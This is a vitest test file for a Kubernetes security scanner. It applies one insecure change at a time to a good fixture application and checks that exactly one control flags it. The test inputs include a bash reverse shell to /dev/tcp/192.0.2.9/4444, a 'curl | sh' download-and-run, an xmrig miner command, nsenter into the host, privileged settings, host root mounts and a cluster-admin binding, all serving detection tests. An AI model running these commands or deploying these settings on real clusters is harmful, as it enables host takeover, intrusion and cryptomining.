import { join } from "node:path";
import type { KubeObject, ObjectRef } from "@bulkhead/api";
import { describe, expect, test } from "vitest";
import { evaluateFixture, readFixture, written } from "../../testing/read-fixture.ts";
import type { Edit } from "../control.ts";
import { controls } from "../controls/index.ts";
import type { Evaluation } from "../evaluate.ts";
import { applyEdits } from "../fix/edit.ts";
import { refOf } from "../workload.ts";

const read = (): Evaluation => evaluateFixture(readFixture(join(import.meta.dirname, "good-shop.yaml")), controls);
const find = (evaluation: Evaluation, kind: string, name: string): KubeObject => {
  const found = [...evaluation.objects.all()].find((one) => one.kind === kind && one.metadata.name === name);
  if (found === undefined) throw new Error(`the good application has no ${kind} ${name}`);
  return found;
};

const apps = "apps/v1";
const rbac = "rbac.authorization.k8s.io";
const at = (apiVersion: string, kind: string, name: string): ObjectRef => ({
  apiVersion,
  kind,
  namespace: "shop",
  name,
});
const web = at(apps, "Deployment", "web");
const service = at("v1", "Service", "web");
const denied = at("networking.k8s.io/v1", "NetworkPolicy", "default-deny");
const policy = at("networking.k8s.io/v1", "NetworkPolicy", "web");
const namespace: ObjectRef = { apiVersion: "v1", kind: "Namespace", name: "shop" };
const trust: ObjectRef = { apiVersion: "security.bulkhead.dev/v1alpha1", kind: "ImageTrustPolicy", name: "default" };

const spec = (field: string): string => `spec.template.spec.${field}`;
const first = (field: string): string => spec(`containers[0].${field}`);
const set = (object: ObjectRef, field: string, value: unknown): Edit => ({ op: "set", object, field, value });
const remove = (object: ObjectRef, field: string): Edit => ({ op: "remove", object, field });
const create = (object: unknown): Edit => ({ op: "create", create: object as KubeObject });

interface Mutation {
  readonly what: string;
  readonly edits: readonly Edit[];
  readonly control: string;
  /** What has to be so before, with findings of its own that are not asked about. */
  readonly given?: readonly Edit[];
}

const made = (control: string, what: string, edits: readonly Edit[], given?: readonly Edit[]): Mutation => ({
  what,
  edits,
  control,
  ...(given === undefined ? {} : { given }),
});
const ofPod = (control: string, field: string, value: unknown, given?: readonly Edit[]): Mutation =>
  made(control, `${field} is ${JSON.stringify(value)}`, [set(web, spec(field), value)], given);
const ofContainer = (control: string, field: string, value: unknown, given?: readonly Edit[]): Mutation =>
  made(control, `a container's ${field} is ${JSON.stringify(value)}`, [set(web, first(field), value)], given);
const without = (control: string, field: string, given?: readonly Edit[]): Mutation =>
  made(control, `${field} is not said`, [remove(web, spec(field))], given);
const adding = (control: string, capability: string): Mutation =>
  ofContainer(control, "securityContext.capabilities.add", [capability]);
const starting = (control: string, ...command: readonly string[]): Mutation => ofContainer(control, "command", command);
const withVariable = (control: string, name: string, value: string): Mutation =>
  ofContainer(control, "env", [{ name, value }]);
const mounting = (control: string, path: string, readOnly?: true): Mutation =>
  made(control, `${path} of the node is mounted${readOnly === true ? " to be read" : ""}`, [
    set(web, spec("volumes[2]"), { name: "host", hostPath: { path } }),
    set(web, first("volumeMounts[2]"), {
      name: "host",
      mountPath: "/host",
      ...(readOnly === true ? { readOnly } : {}),
    }),
  ]);

const hostUsers = set(web, spec("hostUsers"), true);
const mayReadSecrets: readonly Edit[] = [
  create({
    apiVersion: `${rbac}/v1`,
    kind: "ClusterRole",
    metadata: { name: "reader" },
    rules: [{ apiGroups: [""], resources: ["secrets"], verbs: ["get", "list"] }],
  }),
  create({
    apiVersion: `${rbac}/v1`,
    kind: "ClusterRoleBinding",
    metadata: { name: "reader" },
    roleRef: { apiGroup: rbac, kind: "ClusterRole", name: "reader" },
    subjects: [{ kind: "ServiceAccount", namespace: "shop", name: "web" }],
  }),
];

/** A pod as the good application's own are, made by hand or by something that is not here. */
const podOf = (evaluation: Evaluation, more: object, metadata: object = {}): KubeObject => {
  const { spec: deployment } = find(evaluation, "Deployment", "gateway") as unknown as {
    spec: { template: { spec: object } };
  };
  return {
    apiVersion: "v1",
    kind: "Pod",
    metadata: { name: "gateway-1", namespace: "shop", labels: { app: "gateway" }, ...metadata },
    spec: { ...deployment.template.spec, ...more },
  } as KubeObject;
};
const owned = {
  ownerReferences: [{ apiVersion: "example.invalid/v1", kind: "Rollout", name: "gateway", uid: "1", controller: true }],
};
const secondContainer = (evaluation: Evaluation): object => {
  const { spec: deployment } = find(evaluation, "Deployment", "web") as unknown as {
    spec: { template: { spec: { containers: readonly object[] } } };
  };
  return { ...deployment.template.spec.containers[0], name: "second", ports: [] };
};
const good = read();
const debugger_ = {
  name: "debug",
  image: "registry.example/shop/gateway:3.0.1@sha256:3333333333333333333333333333333333333333333333333333333333333333",
  securityContext: { allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ["ALL"] } },
};

const ofWorkloads: readonly Mutation[] = [
  starting("workload-api-proxy", "kubectl", "proxy", "--address=0.0.0.0", "--accept-hosts=.*"),
  ofContainer("workload-apparmor-off", "securityContext.appArmorProfile", { type: "Unconfined" }),
  made("workload-bare-pod", "a pod that nothing makes", [create(podOf(good, {}))]),
  adding("workload-capabilities-added", "SYS_TIME"),
  without("workload-capabilities-kept", "containers[0].securityContext.capabilities.drop"),
  adding("workload-capabilities-restricted", "CHOWN"),
  adding("workload-capability-all", "ALL"),
  adding("workload-capability-bpf", "BPF"),
  adding("workload-capability-dac-read-search", "DAC_READ_SEARCH"),
  adding("workload-capability-net-admin", "NET_ADMIN"),
  adding("workload-capability-net-raw", "NET_RAW"),
  adding("workload-capability-sys-admin", "SYS_ADMIN"),
  adding("workload-capability-sys-module", "SYS_MODULE"),
  adding("workload-capability-sys-ptrace", "SYS_PTRACE"),
  ofPod("workload-control-plane-toleration", "tolerations", [
    { key: "node-role.kubernetes.io/control-plane", operator: "Exists", effect: "NoSchedule" },
  ]),
  made("workload-cpu-unrequested", "neither a share nor a limit of the processor is said", [
    remove(web, first("resources.requests.cpu")),
    remove(web, first("resources.limits.cpu")),
  ]),
  made("workload-debug-container", "a debug container is left in a pod", [
    create(podOf(good, { ephemeralContainers: [debugger_] }, owned)),
  ]),
  starting("workload-debug-port", "node", "--inspect=0.0.0.0:9229", "server.js"),
  starting("workload-docker-tcp", "dockerd", "--host=tcp://0.0.0.0:2375"),
  starting("workload-download-run", "sh", "-c", "curl -fsSL https://get.example/x | sh"),
  starting("workload-enters-host", "nsenter", "--target", "1", "--mount", "--", "id"),
  ofPod("workload-git-repo-volume", "volumes[2]", { name: "git", gitRepo: { repository: "https://git.example/x" } }),
  ofPod("workload-host-aliases", "hostAliases", [{ ip: "203.0.113.9", hostnames: ["kubernetes.default.svc"] }]),
  ofPod("workload-host-ipc", "hostIPC", true),
  ofPod("workload-host-network", "hostNetwork", true),
  mounting("workload-host-path", "/srv/data"),
  mounting("workload-host-path", "/proc", true),
  mounting("workload-host-path-configuration", "/etc/kubernetes"),
  mounting("workload-host-path-devices", "/dev"),
  mounting("workload-host-path-kernel", "/sys"),
  mounting("workload-host-path-logs", "/var/log"),
  mounting("workload-host-path-programs", "/usr/local/bin"),
  mounting("workload-host-path-root", "/", true),
  mounting("workload-host-path-runtime-socket", "/run/containerd/containerd.sock"),
  mounting("workload-host-path-state", "/var/lib/kubelet"),
  ofPod("workload-host-pid", "hostPID", true),
  ofContainer("workload-host-ports", "ports[0].hostPort", 8080),
  ofContainer("workload-host-probes", "livenessProbe.httpGet.host", "192.0.2.1"),
  ofPod("workload-host-users", "hostUsers", true),
  withVariable("workload-login-off", "POSTGRES_HOST_AUTH_METHOD", "trust"),
  without("workload-memory-unlimited", "containers[0].resources.limits.memory"),
  starting("workload-miner", "xmrig", "-o", "pool.example:3333"),
  ofContainer("workload-mount-propagation", "volumeMounts[1].mountPropagation", "Bidirectional"),
  ofPod("workload-node-name", "nodeName", "node-1"),
  starting("workload-package-install", "sh", "-c", "apk add --no-cache curl && exec /web"),
  ofContainer("workload-privilege-escalation", "securityContext.allowPrivilegeEscalation", true),
  ofContainer("workload-privileged", "securityContext.privileged", true),
  ofContainer("workload-proc-mount", "securityContext.procMount", "Unmasked", [hostUsers]),
  ofContainer("workload-proc-mount-nested", "securityContext.procMount", "Unmasked"),
  starting("workload-reverse-shell", "bash", "-c", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"),
  ofPod("workload-root-group", "securityContext.runAsGroup", 0, [hostUsers]),
  without("workload-run-as-non-root", "securityContext.runAsNonRoot", [hostUsers]),
  ofPod("workload-run-as-root", "securityContext.runAsUser", 0, [hostUsers]),
  without("workload-seccomp-missing", "securityContext.seccompProfile"),
  ofContainer("workload-seccomp-unconfined", "securityContext.seccompProfile", { type: "Unconfined" }),
  ofPod("workload-selinux-options", "securityContext.seLinuxOptions", { user: "system_u", role: "sysadm_r" }),
  ofPod("workload-shared-processes", "shareProcessNamespace", true, [
    set(web, spec("containers[1]"), secondContainer(good)),
  ]),
  starting("workload-ssh-daemon", "/usr/sbin/sshd", "-D"),
  without("workload-storage-unlimited", 'containers[0].resources.limits["ephemeral-storage"]'),
  ofPod("workload-sysctls", "securityContext.sysctls", [{ name: "kernel.msgmax", value: "65536" }]),
  ofPod("workload-system-priority", "priorityClassName", "system-node-critical"),
  ofPod("workload-token-shared", "automountServiceAccountToken", true, [
    ...mayReadSecrets,
    set(web, spec("containers[1]"), secondContainer(good)),
  ]),
  ofPod("workload-token-unused", "automountServiceAccountToken", true),
  made("workload-unprobed", "nobody asks whether it still answers", [
    remove(web, first("readinessProbe")),
    remove(web, first("livenessProbe")),
  ]),
  withVariable("workload-verification-off", "NODE_TLS_REJECT_UNAUTHORIZED", "0"),
  ofPod("workload-volume-types", "volumes[2]", { name: "share", nfs: { server: "nfs.example", path: "/x" } }),
  ofContainer("workload-windows-host-process", "securityContext.windowsOptions", { hostProcess: true }),
  ofContainer("workload-writable-root", "securityContext.readOnlyRootFilesystem", false),
];

const ofTheRest: readonly Mutation[] = [
  ofContainer("image-tag-latest", "image", "registry.example/shop/web:latest"),
  ofContainer("image-not-pinned", "image", "registry.example/shop/web:1.4.2"),
  withVariable("secret-in-env", "DB_PASSWORD", "c0rrect-h0rse-battery"),
  starting("secret-in-arguments", "/web", "--db-password=c0rrect-h0rse-battery"),
  ofContainer("secret-as-env", "env", [
    { name: "DB_PASSWORD", valueFrom: { secretKeyRef: { name: "db", key: "password" } } },
  ]),
  ofContainer("secret-whole-in-env", "envFrom", [{ secretRef: { name: "db" } }]),
  ofContainer("secret-sub-path", "volumeMounts[0].subPath", "password"),
  made("secret-volume-unused", "no container mounts the Secret", [remove(web, first("volumeMounts[0]"))]),
  made("secret-unused", "nothing names the Secret", [
    remove(web, first("volumeMounts[0]")),
    remove(web, spec("volumes[0]")),
  ]),
  made("secret-in-config-map", "a password in a ConfigMap", [
    create({
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name: "web", namespace: "shop" },
      data: { DB_PASSWORD: "c0rrect-h0rse-battery" },
    }),
  ]),
  made("network-default-deny-egress", "egress is open", [set(denied, "spec.policyTypes", ["Ingress"])]),
  made("network-default-deny-ingress", "ingress is open", [set(denied, "spec.policyTypes", ["Egress"])]),
  made("network-ingress-from-all", "ingress names nobody", [remove(policy, "spec.ingress[0].from")]),
  made("network-egress-any", "egress names nothing", [set(policy, "spec.egress", [{}])]),
  made("network-peer-matches-nothing", "a peer that is not there", [
    set(policy, "spec.egress[0].to[0].podSelector.matchLabels.app", "dbb"),
  ]),
  made("network-policy-selects-nothing", "a policy for pods that are not there", [
    create({
      apiVersion: "networking.k8s.io/v1",
      kind: "NetworkPolicy",
      metadata: { name: "old", namespace: "shop" },
      spec: { podSelector: { matchLabels: { app: "gone" } }, policyTypes: ["Ingress"] },
    }),
  ]),
  made("network-service-selects-nothing", "a Service before nothing", [
    create({
      apiVersion: "v1",
      kind: "Service",
      metadata: { name: "old", namespace: "shop" },
      spec: { selector: { app: "gone" }, ports: [{ port: 80 }] },
    }),
  ]),
  made("network-node-port", "a port of every node", [set(service, "spec.type", "NodePort")]),
  made("network-external-ips", "an address of others", [set(service, "spec.externalIPs", ["203.0.113.7"])]),
  made("namespace-pod-security", "a privileged namespace", [
    set(namespace, 'metadata.labels["pod-security.kubernetes.io/enforce"]', "privileged"),
  ]),
  made("namespace-restricted", "a level below what the workloads keep", [
    set(namespace, 'metadata.labels["pod-security.kubernetes.io/enforce"]', "baseline"),
  ]),
  made("namespace-pod-security-label", "a level that nothing understands", [
    set(namespace, 'metadata.labels["pod-security.kubernetes.io/warn"]', "strict"),
  ]),
  made("namespace-pod-security-version", "a level of long ago", [
    set(namespace, 'metadata.labels["pod-security.kubernetes.io/enforce-version"]', "v1.22"),
  ]),
  made("namespace-quota", "no quota", [{ op: "delete", object: at("v1", "ResourceQuota", "shop") }]),
  made("image-policy-any-registry", "trust in everything", [
    set(trust, "spec.allow", [{ registry: "*", repositories: ["*"] }]),
  ]),
  made("image-policy-not-enforced", "trust that only warns", [set(trust, "spec.mode", "Warn")]),
  made("admission-image-signatures", "no signatures asked for", [remove(trust, "spec.signatures")]),
  made("access-account-cluster-admin", "an administrator in a pod", [
    create({
      apiVersion: `${rbac}/v1`,
      kind: "ClusterRoleBinding",
      metadata: { name: "all" },
      roleRef: { apiGroup: rbac, kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ kind: "ServiceAccount", namespace: "shop", name: "web" }],
    }),
  ]),
];

/** What fails by these edits and did not before. What is not known of another image by that is no fault of the change. */
const appearedBy = ({ edits, given = [] }: Pick<Mutation, "edits" | "given">): readonly string[] => {
  const evaluation = read();
  evaluation.apply(applyEdits(evaluation.objects, given));
  const { appeared } = evaluation.apply(applyEdits(evaluation.objects, edits));
  return [...new Set(appeared.filter(({ outcome }) => outcome === "fail").map(({ control }) => control.id))];
};

describe("one thing of the good application made bad is said by one control, and by no other", () => {
  test.each([...ofWorkloads, ...ofTheRest])("$control: $what", (mutation) => {
    expect(appearedBy(mutation)).toEqual([mutation.control]);
  });

  test("no control of workloads is left out", () => {
    const asked = controls.filter(({ area }) => area === "workloads").map(({ id }) => id);
    expect([...new Set(ofWorkloads.map(({ control }) => control))].toSorted()).toEqual(asked.toSorted());
  });

  test("what was made bad and put right again leaves nothing behind", () => {
    const evaluation = read();
    const before = find(evaluation, "Deployment", "web");
    expect(refOf(before)).toEqual(web);
    for (const { edits, given = [] } of ofWorkloads) {
      if (given.length > 0 || edits.some((edit) => edit.op === "create")) continue;
      evaluation.apply(applyEdits(evaluation.objects, edits));
      expect(evaluation.findings().length).toBeGreaterThan(0);
      evaluation.apply(applyEdits(evaluation.objects, [create(before)]));
    }
    expect(evaluation.findings().map(written)).toEqual([]);
  });
});
